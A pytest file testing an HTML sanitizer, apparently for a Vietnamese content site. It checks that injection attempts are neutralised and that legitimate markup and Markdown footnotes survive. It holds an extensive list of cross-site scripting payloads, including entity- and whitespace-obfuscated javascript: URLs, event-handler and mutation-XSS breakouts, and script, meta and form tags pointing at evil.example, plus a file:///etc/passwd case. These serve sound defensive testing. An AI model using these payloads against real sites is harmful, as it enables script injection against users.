"""sanitize_html: injection attempts come out inert, what staff need survives."""

from __future__ import annotations

import markdown
import pytest
from bloc_safety.sanitize import (
    EXTERNAL_REL,
    is_external,
    markdown_config,
    sanitize_html,
    url_is_safe,
)
from bs4 import BeautifulSoup

URL_ATTRIBUTES = ("href", "src", "srcset", "action", "formaction", "data", "poster", "background", "xlink:href")
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")


def parse(html: str) -> BeautifulSoup:
    """Parse as a browser would (html5lib implements the WHATWG algorithm)."""
    return BeautifulSoup(html, "html5lib")


def assert_inert(html: str) -> None:
    soup = parse(html)
    forbidden = ("script", "style", "object", "embed", "form", "input", "button", "meta", "base",
                 "link", "svg", "math", "textarea", "select", "frame", "frameset", "applet")
    assert soup.find_all(forbidden) == [], html
    for element in soup.find_all(True):
        for name, value in element.attrs.items():
            assert not name.lower().startswith("on"), (name, html)
            assert name.lower() != "style", html
            if name.lower() in URL_ATTRIBUTES:
                text = "".join(value) if isinstance(value, list) else value
                squashed = "".join(ch for ch in text if ch > " ").lower()
                assert not squashed.startswith(DANGEROUS_SCHEMES), (name, value, html)
                assert ",javascript:" not in squashed and ",data:" not in squashed, html
    for iframe in soup.find_all("iframe"):
        assert iframe["src"].startswith("https://www.youtube-nocookie.com/embed/"), html


INJECTIONS = {
    "script element": "<p>a</p><script>alert(1)</script>",
    "script mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script src": '<script src="https://evil.example/x.js"></script>',
    "img onerror": '<img src="x" onerror="alert(1)">',
    "img onerror unquoted": "<img src=x onerror=alert(1)//>",
    "javascript href mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript href decimal entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript href hex entity no semicolon": '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">x</a>',
    "javascript href named entity colon": '<a href="javascript&colon;alert(1)">x</a>',
    "javascript href tab": '<a href="java\tscript:alert(1)">x</a>',
    "javascript href newline": '<a href="java\nscript:alert(1)">x</a>',
    "javascript href entity tab": '<a href="java&#x09;script:alert(1)">x</a>',
    "javascript href entity newline": '<a href="java&#10;script:alert(1)">x</a>',
    "javascript href leading space": '<a href="   javascript:alert(1)">x</a>',
    "javascript href leading control char": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript href entity control char": '<a href="&#x01;javascript:alert(1)">x</a>',
    "javascript href null in scheme": '<a href="java&#0;script:alert(1)">x</a>',
    "vbscript href": '<a href="VBScript:msgbox(1)">x</a>',
    "data text/html href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data href mixed case": '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>',
    "data img src": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "javascript img srcset": '<img src="a.jpg" srcset="a.jpg 1x, javascript:alert(1) 2x">',
    "data source srcset": '<picture><source srcset="data:image/svg+xml,x 1x"><img src="a.jpg" alt=""></picture>',
    "svg onload": "<svg onload=alert(1)><circle r=5 /></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "math xlink": '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    "iframe not allowlisted": '<iframe src="https://evil.example/"></iframe>',
    "iframe lookalike host": '<iframe src="https://www.youtube-nocookie.com.evil.example/embed/abcdefgh"></iframe>',
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "style element": "<style>body{display:none}</style><p>x</p>",
    "form and input": '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base href": '<base href="https://evil.example/">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "event handler on allowed tag": '<p onclick="alert(1)" onmouseover="alert(2)">x</p>',
    "mutation through noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment breakout": "<!--><img src=x onerror=alert(1)>-->",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "textarea breakout": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "dom clobbering id": '<h2 id="pagefind">x</h2><img name="getElementById" src="a.jpg">',
}


@pytest.mark.parametrize("html", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_injection_is_inert(html):
    out = sanitize_html(html)
    assert_inert(out)
    assert sanitize_html(out) == out  # stable: a second pass changes nothing


def test_javascript_link_keeps_its_text_but_not_its_href():
    soup = parse(sanitize_html('<a href="JaVaScRiPt:alert(1)">Xem thêm</a>'))
    link = soup.find("a")
    assert link.get_text() == "Xem thêm"
    assert "href" not in link.attrs


def test_rejected_iframe_is_removed_with_its_content():
    out = sanitize_html('<p>a</p><iframe src="https://evil.example/"><p>fallback</p></iframe><p>b</p>')
    assert out == "<p>a</p><p>b</p>"


def test_allowlisted_embed_is_kept_and_sandboxed():
    out = sanitize_html('<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=30" '
                        'title="Hội nghị" width="560" height="315" sandbox="" onload="x()">x</iframe>')
    iframe = parse(out).find("iframe")
    assert iframe["src"] == "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=30"
    assert iframe["title"] == "Hội nghị"
    assert "allow-scripts" in iframe["sandbox"]
    assert iframe["referrerpolicy"] == "strict-origin-when-cross-origin"
    assert not iframe.get_text()


def test_plain_youtube_is_not_allowlisted():
    assert "iframe" not in sanitize_html('<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>')


def test_external_links_get_rel_internal_do_not():
    out = sanitize_html('<a href="https://mof.gov.vn/x?a=1&amp;b=2" rel="opener">a</a>'
                        '<a href="//cdn.example/x">b</a><a href="/tin-tuc/">c</a><a href="#fn:1">d</a>'
                        '<a href="mailto:vp@example.vn">e</a>')
    links = parse(out).find_all("a")
    assert [link.get("rel") for link in links] == [EXTERNAL_REL.split(), EXTERNAL_REL.split(), None, None, None]
    assert links[0]["href"] == "https://mof.gov.vn/x?a=1&b=2"


def test_author_rel_is_not_kept():
    out = sanitize_html('<a href="/x" rel="noopener noreferrer">a</a>')
    assert "rel" not in parse(out).find("a").attrs


def test_what_staff_need_survives():
    html = (
        "<h2>Kết quả</h2><p><strong>Đậm</strong> <em>nghiêng</em> H<sub>2</sub>O x<sup>2</sup><br>dòng</p>"
        "<ul><li>một</li></ul><ol start=\"3\"><li>ba</li></ol><blockquote><p>trích</p></blockquote><hr>"
        '<table><caption>Bảng</caption><thead><tr><th scope="col">Đơn vị</th></tr></thead>'
        '<tbody><tr><td colspan="2">Bộ Tư pháp</td></tr></tbody></table>'
        '<figure><picture><source srcset="a-800.webp 800w, a-400.webp 400w" type="image/webp" sizes="100vw">'
        '<img src="a.jpg" srcset="a-800.jpg 800w" sizes="100vw" alt="Ký kết" width="800" height="600" '
        'loading="lazy" decoding="async"></picture><figcaption>Lễ ký</figcaption></figure>'
        '<p><abbr title="Ủy ban nhân dân">UBND</abbr> <code>x</code></p><pre><code>y</code></pre>'
        "<dl><dt>Khối</dt><dd>thi đua</dd></dl>"
    )
    assert sanitize_html(html) == html


def test_footnotes_from_markdown_survive():
    body = markdown.markdown("Văn bản[^1].\n\n[^1]: Chú thích.", **markdown_config())
    soup = parse(sanitize_html(body))
    assert soup.find("sup", id="fnref:1").a["href"] == "#fn:1"
    assert soup.find("li", id="fn:1")
    assert soup.find("div", class_="footnote")


def test_other_ids_and_classes_are_dropped():
    soup = parse(sanitize_html('<li id="main">x</li><a class="btn footnote-ref" href="#">y</a>'))
    assert "id" not in soup.find("li").attrs
    assert soup.find("a")["class"] == ["footnote-ref"]


def test_attr_list_syntax_through_markdown_makes_no_attribute():
    text = "Đoạn văn\n{: onclick=alert(1) }\n\n## Tiêu đề {: onclick=\"alert(1)\" #id .cls }\n"
    rendered = markdown.markdown(text, **markdown_config())
    for html in (rendered, sanitize_html(rendered)):
        soup = parse(html)
        assert all(not k.startswith("on") for el in soup.find_all(True) for k in el.attrs), html
        assert soup.find(class_="cls") is None
    assert "{: onclick=alert(1) }" in sanitize_html(rendered)  # shown as text, harmless


def test_markdown_raw_html_is_sanitized_after_rendering():
    rendered = markdown.markdown('<div onclick="x()">a</div>\n\n[b](javascript:alert(1))', **markdown_config())
    assert_inert(sanitize_html(rendered))


def test_markdown_config_has_no_attr_list_nor_extra():
    config = markdown_config()
    names = " ".join(config["extensions"])
    assert "attr_list" not in names and "extra" not in names and "smarty" not in names
    assert config["output_format"] == "html"
    assert set(config["extension_configs"]) == set(config["extensions"])


def test_vietnamese_quotes_are_left_alone():
    rendered = markdown.markdown('Quyết định số 12/QĐ-"BTP" ngày 5\'', **markdown_config())
    assert '"BTP"' in rendered and "5'" in rendered


@pytest.mark.parametrize("url", ["https://a.vn/x", "/tin-tuc/", "../a.jpg", "a.jpg", "#fn:1",
                                 "mailto:a@b.vn", "tel:+842438", "?q=1", "HTTPS://A.VN"])
def test_safe_urls(url):
    assert url_is_safe(url)


@pytest.mark.parametrize("url", ["javascript:x", " JAVASCRIPT:x", "java\tscript:x", "\x00javascript:x",
                                 "data:text/html,x", "vbscript:x", "file:///etc/passwd", "ftp://x",
                                 "jar:x", "java\u0000script:x"])
def test_unsafe_urls(url):
    assert not url_is_safe(url)


def test_backslash_host_is_external():
    assert is_external("\\\\evil.example/x")
    assert is_external(" HTTPS://x")
    assert not is_external("/x")
